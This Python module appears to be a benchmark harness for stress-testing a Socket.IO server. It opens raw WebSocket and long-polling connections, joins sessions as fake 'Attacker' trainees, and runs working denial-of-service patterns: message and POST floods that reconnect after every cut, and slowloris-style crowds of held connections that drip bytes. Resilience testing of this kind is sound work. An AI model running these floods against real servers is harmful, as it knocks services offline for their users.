"""The raw sockets of those who attack: how a connection begins, and what it then goes on doing."""

from __future__ import annotations

import contextlib
import json
import select
import selectors
import signal
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from uuid import uuid4

CONTINUATION, TEXT, PING, PONG = 0x0, 0x1, 0x9, 0xA
_FIN, _MASKED = 0x80, 0x80
_NO_MASK = bytes(4)
# As the server's own: an Engine.IO ping in a text frame.
_HEARTBEAT = b"\x81\x012"
# Sent at once; above what a socket's buffer takes it would only wait here.
CHUNK_BYTES = 64 * 1024
_LITTLE_BYTES = 4096
_PATIENCE_SECONDS = 10.0
# Before a connection that was cut, or refused, is followed by another: what is measured is no storm of connections.
_AGAIN_SECONDS = 0.1
_DRIP_SECONDS = 1.0


def frame(kind: int, payload: bytes = b"", *, is_last: bool = True, promised: int | None = None) -> bytes:
    """A client's frame, masked with zeros; `promised`: the size that it says it has."""
    size = len(payload) if promised is None else promised
    first = bytes((kind | (_FIN if is_last else 0),))
    if size < 126:
        head = first + bytes((_MASKED | size,))
    elif size < 65536:
        head = first + bytes((_MASKED | 126,)) + size.to_bytes(2, "big")
    else:
        head = first + bytes((_MASKED | 127,)) + size.to_bytes(8, "big")
    return head + _NO_MASK + payload


@dataclass
class Target:
    """The server, the code of a session on it, how many connections a crowd has, and what was done so far."""

    host: str
    port: int
    code: str = ""
    count: int = 100
    messages: int = 0
    cuts: int = 0
    refused: int = 0
    is_begun: bool = field(default=False, repr=False)

    def begun(self) -> None:
        if not self.is_begun:
            self.is_begun = True
            print("ready", flush=True)

    def told(self) -> str:
        return json.dumps({"messages": self.messages, "cuts": self.cuts, "refused": self.refused})


class Line:
    """A TCP connection. `reads`: what comes is read, and thrown away, while it sends."""

    def __init__(self, target: Target, *, reads: bool = True) -> None:
        self.reads = reads
        self.heard = b""
        self.left = memoryview(b"")
        self._host = f"{target.host}:{target.port}"
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _LITTLE_BYTES)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.settimeout(_PATIENCE_SECONDS)
        try:
            self.socket.connect((target.host, target.port))
        except OSError:
            self.socket.close()
            raise

    def head(self, first: str, *more: str) -> bytes:
        return "\r\n".join((f"{first} HTTP/1.1", f"Host: {self._host}", *more, "", "")).encode()

    def upgrade_request(self) -> bytes:
        return self.head(
            "GET /socket.io/?EIO=4&transport=websocket",
            *("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"),
            "Sec-WebSocket-Key: c2hpbGxlci1iZW5jaC0wMA==",
        )

    def say(self, data: bytes) -> None:
        self.socket.sendall(data)

    def hear(self, mark: bytes) -> bytes:
        """What comes, up to `mark`; what follows it is kept."""
        while mark not in self.heard:
            if not (data := self.socket.recv(65536)):
                raise ConnectionError("it was cut")
            self.heard += data
        before, _, self.heard = self.heard.partition(mark)
        return before + mark

    def pour(self, data: bytes) -> None:
        """All of it, however long the server takes."""
        self.left = memoryview(data)
        while self.left:
            readable, writable, _ = select.select([self.socket] if self.reads else [], [self.socket], [])
            if readable:
                self.throw_away()
            if writable:
                self.push_on()

    def throw_away(self) -> bytes:
        data = self.socket.recv(65536)
        if not data:
            raise ConnectionError("it was cut")
        return data

    def push_on(self) -> None:
        """As much of what is left as the system takes now."""
        with contextlib.suppress(BlockingIOError):
            self.left = self.left[self.socket.send(self.left, socket.MSG_DONTWAIT) :]

    def close(self) -> None:
        self.socket.close()


Begin = Callable[[Target, bool], Line]


# How a connection begins


def bare(target: Target, reads: bool) -> Line:
    """TCP, and not a word."""
    return Line(target, reads=reads)


def opened(target: Target, reads: bool) -> Line:
    """An Engine.IO connection that has joined nothing."""
    line = Line(target, reads=reads)
    line.say(line.upgrade_request())
    head = line.hear(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 101"):
        line.close()
        raise ConnectionError(head.decode("latin-1"))
    line.hear(b"}")
    return line


def joined(target: Target, reads: bool) -> Line:
    """A trainee."""
    line = opened(target, reads)
    auth = {"code": target.code, "name": f"Attacker {uuid4().hex[:8]}"}
    line.say(frame(TEXT, f"40/trainee,{json.dumps(auth)}".encode()))
    line.hear(b'"session:joined"')
    return line


def polling(target: Target, reads: bool) -> Line:
    """An Engine.IO connection by long-polling; `heard` is its id."""
    line = Line(target, reads=reads)
    line.say(line.head("GET /socket.io/?EIO=4&transport=polling"))
    line.hear(b'"sid":"')
    sid = line.hear(b'"')[:-1]
    line.hear(b"}")
    line.heard = sid
    return line


# What it then does


def flood(target: Target, begin: Begin, chunk: Callable[[Line], tuple[bytes, int]], *, reads: bool = True) -> None:
    """Over one connection, as fast as the server takes it. `chunk`: what is sent next, and how many messages it is."""
    while True:
        line = None
        try:
            line = begin(target, reads)
            while True:
                data, messages = chunk(line)
                line.pour(data)
                target.messages += messages
                target.begun()
        except OSError:
            target.cuts += 1
            target.begun()
            # An attacker comes back; not so fast that it is measured how fast this loop goes round.
            time.sleep(_AGAIN_SECONDS)
        finally:
            if line is not None:
                line.close()


def again(message: bytes) -> Callable[[Line], tuple[bytes, int]]:
    count = max(1, CHUNK_BYTES // len(message))
    data = message * count
    return lambda line: (data, count)


def posts(body: bytes) -> Callable[[Line], tuple[bytes, int]]:
    count = max(1, CHUNK_BYTES // (len(body) + 150))

    def chunk(line: Line) -> tuple[bytes, int]:
        path = f"POST /socket.io/?EIO=4&transport=polling&sid={line.heard.decode()}"
        return (line.head(path, "Content-Type: text/plain", f"Content-Length: {len(body)}") + body) * count, count

    return chunk


def stay(
    target: Target,
    begin: Begin,
    said: Callable[[Line], bytes],
    *,
    drip: bytes = b"",
    answers: bool = False,
    reads: bool = True,
) -> None:
    """So many connections that each say something, and stay. `drip`: what each says once a second from then on;
    `answers`: to the heartbeat.
    """
    lines: set[Line] = set()
    for _ in range(target.count):
        try:
            line = begin(target, reads)
        except OSError:
            target.refused += 1
            continue
        line.left = memoryview(said(line))
        lines.add(line)
    target.begun()
    _look_after(target, lines, drip, answers=answers)
    print("gone", flush=True)
    signal.pause()


def _look_after(target: Target, lines: set[Line], drip: bytes, *, answers: bool) -> None:
    selector = selectors.DefaultSelector()
    for line in lines:
        selector.register(line.socket, _wanted(line), line)
    dripped = time.monotonic()
    while lines:
        for key, events in selector.select(_DRIP_SECONDS):
            line: Line = key.data
            try:
                if events & selectors.EVENT_READ and _HEARTBEAT in line.throw_away() and answers:
                    line.left = memoryview(bytes(line.left) + frame(TEXT, b"3"))
                if events & selectors.EVENT_WRITE:
                    line.push_on()
                selector.modify(line.socket, _wanted(line), line)
            except OSError:
                target.cuts += 1
                selector.unregister(line.socket)
                lines.discard(line)
                line.close()
        if drip and time.monotonic() - dripped >= _DRIP_SECONDS:
            dripped = time.monotonic()
            for line in lines:
                line.left = memoryview(bytes(line.left) + drip)
                selector.modify(line.socket, _wanted(line), line)


def _wanted(line: Line) -> int:
    """Even who reads nothing has to notice that it was cut; what comes is then little."""
    return selectors.EVENT_READ | (selectors.EVENT_WRITE if line.left else 0)
